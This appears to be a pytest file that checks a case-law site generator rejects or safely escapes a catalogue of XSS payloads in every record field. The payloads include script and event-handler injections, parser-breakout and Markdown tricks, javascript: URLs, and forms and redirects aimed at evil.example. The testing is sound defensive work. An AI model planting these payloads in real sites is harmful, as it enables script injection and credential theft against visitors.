"""A catalogue of XSS payloads in every part of a case file: none may run on the published site.

Each payload is either rejected by the validator with a clear problem (unsafe
addresses, vocabulary and pattern fields, control characters) or published and inert.
The inert ones are built together, as SYNTHETIC cases in one scratch copy of the
project, with `caselaw build`; every page that shows a payload is then opened in
headless Chromium, which must see no dialog, no ``window.__xss``, and no element,
handler or address from a payload in the DOM. The open data (JSON, CSV), the feeds,
the sitemap and the search index must parse and give the payload back as text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest

from generator.reader import parse_case
from generator.validate import validate_record
from tests.browser import serve
from tests.conftest import SYNTHETIC_CASE, TODAY
from tests.site_helpers import caselaw, copy_project


@dataclass(frozen=True)
class Payload:
    field: str
    text: str
    rejected: str | None = None  # the problem code the validator must give, or None: published and inert


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


# {n} is the payload's number: a payload that runs sets window.__xss to it or opens a dialog saying it.
INERT = [
    # Titles: <h1>, <title>, meta tags, JSON-LD, listings, feeds, search results, share links.
    Payload("title", "<script>window.__xss={n}</script>"),
    Payload("title", '<img src=x onerror="window.__xss={n}">'),
    Payload("title", "</title><script>window.__xss={n}</script>"),
    Payload("title", '"><svg onload=window.__xss={n}>'),
    Payload("title", "</script><script>window.__xss={n}</script>"),
    Payload("title", '{{{{ "xss" ~ {n}*1111 }}}}'),
    Payload("title", "' onmouseover='window.__xss={n}' x='"),
    Payload("title", "&lt;script&gt;window.__xss={n}&lt;/script&gt;"),
    # Citations and summaries: the citation block, the description and og:description meta tags, JSON-LD.
    Payload("citation", '"><img src=x onerror=alert({n})>'),
    Payload("citation", "<iframe srcdoc=\"<script>parent.__xss={n}</script>\"></iframe>"),
    Payload("summary", "</textarea><script>window.__xss={n}</script>"),
    Payload("summary", '" autofocus onfocus="window.__xss={n}" x="'),
    Payload("summary", "<details open ontoggle=window.__xss={n}>x</details>"),
    # Court names, case numbers, procedural history, charges, sources, keywords, landmark reasons.
    Payload("court", "<script>window.__xss={n}</script>"),
    Payload("court", "<input autofocus onfocus=window.__xss={n}>"),
    Payload("case_number", '"onmouseover="window.__xss={n}'),
    Payload("procedural_history.court", "</li><script>window.__xss={n}</script>"),
    Payload("procedural_history.decision", "<img src=x onerror=window.__xss={n}>"),
    Payload("charges.defendants", "<b onmouseover=window.__xss={n}>x</b>"),
    Payload("charges.offence", "<svg/onload=window.__xss={n}>"),
    Payload("charges.statute", "<marquee onstart=window.__xss={n}>x</marquee>"),
    Payload("charges.other", "<script>window.__xss={n}</script>"),
    Payload("keywords", "<img src=x onerror=window.__xss={n}>"),
    Payload("sources.title", '"><img src=x onerror=window.__xss={n}>'),
    Payload("landmark_reason", "<script>window.__xss={n}</script>"),
    Payload("landmark_reason", "<audio src=x onerror=window.__xss={n}>"),
    # Bodies: raw HTML, Markdown links and images, autolinks, attribute lists.
    Payload("body", "<script>window.__xss={n}</script>"),
    Payload("body", '<img src=x onerror="window.__xss={n}">'),
    Payload("body", "<svg><script>window.__xss={n}</script></svg>"),
    Payload("body", "<iframe srcdoc=\"<script>parent.__xss={n}</script>\"></iframe>"),
    Payload("body", "<body onload=window.__xss={n}>"),
    Payload("body", "<details open ontoggle=window.__xss={n}>x</details>"),
    Payload("body", "<video><source onerror=window.__xss={n}></video>"),
    Payload("body", "<object data=x onerror=window.__xss={n}></object>"),
    Payload("body", "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss={n}>"),
    Payload("body", '<noscript><p title="</noscript><img src=x onerror=window.__xss={n}>">'),
    Payload("body", "<!--<img src=x onerror=window.__xss={n}>-->"),
    Payload("body", '<a href="#facts" onclick="window.__xss={n}">x</a>'),
    Payload("body", '<p style="background:url(x)" onmouseover="window.__xss={n}">x</p>'),
    Payload("body", '<base href="https://evil.example/"><a href="#facts">{n}</a>'),
    Payload("body", '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">'),
    Payload("body", '<form action="https://evil.example/{n}"><input name="password"><button>go</button></form>'),
    Payload("body", '<link rel="stylesheet" href="https://evil.example/{n}.css">'),
    Payload("body", "<style>body{{display:none}}</style>{n}"),
    Payload("body", "![tracking](https://evil.example/{n}.png)"),
    Payload("body", "![x](x.png){{: onerror=\"window.__xss={n}\"}}"),
    Payload("body", "A paragraph {n}.\n{{: onclick=\"window.__xss={n}\" }}"),
    Payload("body", "## Notes {n} {{: onmouseover=\"window.__xss={n}\" }}"),
    Payload("body", '[title breakout](https://example.org "\\"onmouseover=window.__xss={n} x=\\"")'),
    Payload("body", '<https://example.org/{n}"onmouseover="window.__xss={n}>'),
    Payload("body", '<a href="https://example.org/{n}" target="_blank">tab-nabbing</a>'),
    Payload("body", '<h2 id="__drawer">clobber {n}</h2><form name="__xss"></form>'),
    Payload("body", "\\u003cscript\\u003ewindow.__xss={n}\\u003c/script\\u003e"),
    Payload("body", "`<script>window.__xss={n}</script>` and\n\n    <script>window.__xss={n}</script>\n"),
]

REJECTED = [
    Payload("body", "[click](javascript:window.__xss={n})", "unsafe-url"),
    Payload("body", "[click](JaVaScRiPt:window.__xss={n})", "unsafe-url"),
    Payload("body", '<a href="jav&#x09;ascript:window.__xss={n}">x</a>', "unsafe-url"),
    Payload("body", '<a href="&#106;avascript:window.__xss={n}">x</a>', "unsafe-url"),
    Payload("body", '<a href="java\nscript:window.__xss={n}">x</a>', "unsafe-url"),
    Payload("body", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "unsafe-url"),
    Payload("body", "[ref][r]\n\n[r]: vbscript:msgbox({n})", "unsafe-url"),
    Payload("body", "<javascript:window.__xss={n}>", "unsafe-url"),
    Payload("body", '<iframe src="data:text/html,<script>parent.__xss={n}</script>"></iframe>', "unsafe-url"),
    Payload("body", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss={n}">', "unsafe-url"),
    Payload("body", "text \x1b[2J{n}", "control-character"),
    Payload("sources.url", "javascript:window.__xss={n}", "unsafe-url"),
    Payload("sources.url", " JaVaScRiPt:alert({n})", "unsafe-url"),
    Payload("sources.url", "data:text/html,<script>alert({n})</script>", "unsafe-url"),
    Payload("sources.url", 'https://example.org/" onmouseover="alert({n})', "pattern"),
    Payload("title", '<a href="javascript:window.__xss={n}">x</a>', "unsafe-url"),
    Payload("summary", '<img src="jav&#x0A;ascript:alert({n})">', "unsafe-url"),
    Payload("court", "vbscript:msgbox({n})", "unsafe-url"),
    Payload("keywords", "data:text/html,<b>{n}</b>", "unsafe-url"),
    Payload("title", "Synthetic \x1b]0;pwned{n}\x07", "control-character"),
    Payload("purposes", "<script>window.__xss={n}</script>", "unknown-term"),
    Payload("country", "<svg onload=window.__xss={n}>", "unknown-term"),
    Payload("aliases", "/<script>{n}/", "pattern"),
    Payload("aliases", "/a/../../../tmp/x{n}/", "alias-path"),
    Payload("id", "<script>{n}", "pattern"),
    Payload("initials", "<b>{n}", "pattern"),
]
CATALOGUE = INERT + REJECTED

FACTS = "evidence about the conditions on the farm."


def case_file(number: int, payload: Payload) -> str:
    """The SYNTHETIC case with its own id, title and number, and the payload in its field."""
    tag = f"Xsspayload{number:02d}"
    text = payload.text.format(n=number)
    out = (SYNTHETIC_CASE.replace("tst-2020-synthetic-one", f"tst-2020-xss-{number:02d}")
           .replace("title: Synthetic Test Case v. Nobody", f"title: {tag} Synthetic v. Nobody")
           .replace("citation: Synthetic Test Case v. Nobody, TEST-1", f"citation: {tag} Synthetic v. Nobody, XSS-{number}")
           .replace('case_number: "TEST-1"', f'case_number: "XSS-{number}"'))

    def sub(old: str, new: str) -> None:
        nonlocal out
        assert old in out, old
        out = out.replace(old, new, 1)

    field = payload.field
    if field == "title":
        sub(f"title: {tag} Synthetic v. Nobody", f"title: {q(f'{tag} {text} v. Nobody')}")
    elif field == "citation":
        out = re.sub(r"(?m)^citation: .*$", lambda m: f"citation: {q(f'{tag} {text}, XSS-{number}')}", out, count=1)
    elif field == "summary":
        out = re.sub(r"(?m)^summary: .*$", lambda m: f"summary: {q(f'A synthetic record {tag} {text}.')}", out, count=1)
    elif field == "court":
        sub("court: Synthetic Test Court\n", f"court: {q(f'Synthetic Test Court {text}')}\n")
    elif field == "case_number":
        sub(f'case_number: "XSS-{number}"', f"case_number: {q(f'XSS-{number} {text}')}")
    elif field == "procedural_history.court":
        sub("  - court: Synthetic Test Court", f"  - court: {q(f'Appeal Court {text}')}")
    elif field == "procedural_history.decision":
        sub("    decision: Conviction on all counts (synthetic).", f"    decision: {q(f'Conviction {text}')}")
    elif field == "charges.defendants":
        sub("  - defendants: The defendant", f"  - defendants: {q(f'The defendant {text}')}")
    elif field == "charges.offence":
        sub("    offence: Trafficking in persons", f"    offence: {q(f'Trafficking {text}')}")
    elif field == "charges.statute":
        sub("    statute: Synthetic Act s. 1", f"    statute: {q(f'Act {text}')}")
    elif field == "charges.other":
        sub("      fine: {amount: 1000, currency: GBP}", f"      fine: {{amount: 1000, currency: GBP}}\n      other: {q(text)}")
    elif field == "keywords":
        sub("keywords: [synthetic]", f"keywords: [synthetic, {q(text)}]")
    elif field == "sources.title":
        sub("    title: Synthetic judgment", f"    title: {q(f'Judgment {text}')}")
    elif field == "sources.url":
        sub("  - url: https://example.org/synthetic-judgment", f"  - url: {q(text)}")
    elif field == "landmark_reason":
        sub("landmark: false", f"landmark: true\nlandmark_reason: {q(f'Reason {text}')}")
    elif field == "purposes":
        sub("purposes: [forced_labour]", f"purposes: [forced_labour, {q(text)}]")
    elif field == "country":
        sub("country: GBR", f"country: {q(text)}")
    elif field == "aliases":
        sub("landmark: false", f"landmark: false\naliases: [{q(text)}]")
    elif field == "id":
        sub(f"id: tst-2020-xss-{number:02d}", f"id: {q(text)}")
    elif field == "initials":
        sub("initials: [A.B.]", f"initials: [{q(text)}]")
    elif field == "body":
        sub(FACTS, f"{FACTS}\n\n{text}\n\n{tag}.")
    else:
        raise AssertionError(field)
    return out


def test_the_catalogue_is_large_and_covers_every_kind_of_field():
    assert len(CATALOGUE) >= 50 and len(INERT) >= 50
    fields = {p.field.split(".")[0] for p in CATALOGUE}
    assert fields >= {"title", "citation", "summary", "body", "sources", "court", "case_number", "procedural_history", "charges",
                      "keywords", "landmark_reason", "purposes", "country", "aliases", "id", "initials"}


@pytest.mark.parametrize("number, payload", [(i, p) for i, p in enumerate(CATALOGUE) if p.rejected],
                         ids=lambda v: v.text[:40] if isinstance(v, Payload) else str(v))
def test_rejected_payloads_get_a_clear_problem(number: int, payload: Payload):
    text = case_file(number, payload)
    problems = validate_record(parse_case(text, "cases/gbr/xss.md"), TODAY)
    matching = [p for p in problems if p.code == payload.rejected]
    assert matching, [(p.code, p.message) for p in problems]
    problem = matching[0]
    assert problem.path == "cases/gbr/xss.md" and problem.line and problem.hint
    assert problem.field.split("[")[0].split(".")[0] == payload.field.split(".")[0].replace("initials", "victims")


@pytest.mark.parametrize("number, payload", [(i, p) for i, p in enumerate(CATALOGUE) if not p.rejected],
                         ids=lambda v: v.text[:40] if isinstance(v, Payload) else str(v))
def test_inert_payloads_are_valid_records(number: int, payload: Payload):
    problems = validate_record(parse_case(case_file(number, payload), "cases/gbr/xss.md"), TODAY)
    assert problems == [], [(p.code, p.field, p.message) for p in problems]


# --- the built site in a real browser ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("xss"))
    folder = project / "cases" / "gbr"
    for number, payload in enumerate(CATALOGUE):
        if not payload.rejected:
            (folder / f"tst-xss-{number:02d}.md").write_text(case_file(number, payload), encoding="utf-8")
    result = caselaw("build", "-d", "out", cwd=project)
    assert result.returncode == 0, result.stderr[-5000:]
    return project / "out"


# In the page: everything a payload could have put there that runs or leaks.
DOM_CHECK = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value;
      if (name.startsWith('on') && /__xss|alert/.test(value)) found.push(`${el.tagName} ${name}=${value}`);
      if (/^(href|src|action|formaction|data|srcdoc)$/.test(name) && /^\\s*(javascript|vbscript|data):/i.test(value))
        found.push(`${el.tagName} ${name}=${value}`);
      if (/^(href|src|action|data)$/.test(name) && /evil\\.example/.test(value)) found.push(`${el.tagName} ${name}=${value}`);
      if (name === 'srcdoc') found.push(`${el.tagName} srcdoc`);
    }
    const tag = el.tagName.toLowerCase();
    if (tag === 'script' && !/json/.test(el.type || '') && /__xss|alert\\(/.test(el.textContent)) found.push('script ' + el.textContent.slice(0, 80));
    if (['iframe', 'object', 'embed', 'base', 'frame'].includes(tag)) found.push(tag);
    if (tag === 'form' && /evil|__xss/.test(el.outerHTML)) found.push('form');
    if (tag === 'meta' && (/refresh/i.test(el.httpEquiv) || /evil/.test(el.content))) found.push('meta ' + el.outerHTML);
    if (tag === 'style' && el.textContent.includes('body{display:none}')) found.push('style');
    if (tag === 'a' && /example\\.org\\/\\d/.test(el.href) && el.target === '_blank' && !/noopener/.test(el.rel)) found.push('a target=_blank');
  }
  return found;
}"""


def visit(browser, url: str) -> tuple[list[str], object, list[str], str]:
    context = browser.new_context(java_script_enabled=True)
    page = context.new_page()
    dialogs: list[str] = []

    def on_dialog(dialog) -> None:
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    blocked: list[str] = []
    page.route(re.compile(r"^https?://(?!127\.0\.0\.1)"), lambda route: (blocked.append(route.request.url), route.abort()))
    try:
        page.goto(url, wait_until="load")
        page.wait_for_timeout(150)  # onerror / onload / autofocus handlers fire within a tick or two
        page.mouse.move(200, 300)
        page.mouse.move(400, 500)
        flag = page.evaluate("() => (typeof window.__xss === 'number' || typeof window.__xss === 'string') ? window.__xss : null")
        found = page.evaluate(DOM_CHECK)
        text = page.inner_text("body")
    finally:
        context.close()
    return dialogs, flag, found + [f"request to {u}" for u in blocked if "evil" in u], text


def pages_with_payloads(site: Path) -> list[str]:
    numbers = [n for n, p in enumerate(CATALOGUE) if not p.rejected]
    urls = [f"cases/tst-2020-xss-{n:02d}/" for n in numbers]
    urls += ["", "countries/gbr/", "landmarks/", "years/2020/", "themes/victim-testimony/", "purposes/forced-labour/"]
    urls += [str(p.relative_to(site).parent) + "/" for p in (site / "countries" / "gbr" / "page").glob("*/index.html")]
    return urls


def test_no_payload_runs_in_the_browser(hostile_site: Path, browser):
    failures = []
    with serve(hostile_site) as base:
        urls = pages_with_payloads(hostile_site)
        for path in urls:
            dialogs, flag, found, _ = visit(browser, base + path)
            if dialogs or flag is not None or found:
                failures.append(f"/{path}: dialogs={dialogs} window.__xss={flag} dom={found[:5]}")
        for page_number in (1, 2, 3):
            query = f"search/?q=xsspayload&sort=newest&page={page_number}"
            dialogs, flag, found, _ = visit(browser, base + query)
            if dialogs or flag is not None or found:
                failures.append(f"/{query}: dialogs={dialogs} window.__xss={flag} dom={found[:5]}")
    assert not failures, f"{len(failures)} page(s) of {len(urls) + 3} ran or kept a payload:\n" + "\n".join(failures)


def test_payloads_show_as_text_on_their_pages(hostile_site: Path, browser):
    with serve(hostile_site) as base:
        for number in (0, 1, 3):  # title payloads: the reader sees exactly what the contributor wrote
            _, _, _, text = visit(browser, base + f"cases/tst-2020-xss-{number:02d}/")
            assert CATALOGUE[number].text.format(n=number) in text, text[:500]
        _, _, _, text = visit(browser, base + "cases/tst-2020-xss-05/")
        assert "xss5555" not in text, "a title is never evaluated as a template"


def test_open_data_feeds_and_search_data_escape_payloads(hostile_site: Path):
    titles = {f"tst-2020-xss-{n:02d}": f"Xsspayload{n:02d} {p.text.format(n=n)} v. Nobody"
              for n, p in enumerate(CATALOGUE) if p.field == "title" and not p.rejected}
    records = {r["id"]: r for r in json.loads((hostile_site / "data" / "cases.json").read_text(encoding="utf-8"))}
    for case_id, title in titles.items():
        assert records[case_id]["title"] == title
        single = json.loads((hostile_site / "data" / "cases" / f"{case_id}.json").read_text(encoding="utf-8"))
        assert single["title"] == title
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO((hostile_site / "data" / "cases.csv").read_text(encoding="utf-8")))}
    for case_id, title in titles.items():
        assert rows[case_id]["title"] == title
    feeds = list(hostile_site.rglob("*.xml"))
    assert len(feeds) > 5
    seen = set()
    for feed in feeds:
        root = ET.fromstring(feed.read_bytes())  # raises on any unescaped payload
        seen |= {el.text for el in root.iter("{http://www.w3.org/2005/Atom}title")}
    assert set(titles.values()) & seen, "the feeds carry the payload titles, as text"
    for data in (hostile_site / "search").rglob("*.json"):
        json.loads(data.read_text(encoding="utf-8"))
    data_files = 0
    for data in (hostile_site / "search").rglob("*.js"):
        text = data.read_text(encoding="utf-8")
        call = re.fullmatch(r"\s*[\w.]+\((.*)\);?\s*", text, re.S)
        if call and "__xss" in text:  # a data file: its arguments are JSON, so every payload is inside a string
            json.loads("[" + call.group(1) + "]")
            data_files += 1
        elif "__xss" in text:
            raise AssertionError(f"{data} holds a payload outside a JSON data call")
    assert data_files, "the search data carries the payloads"
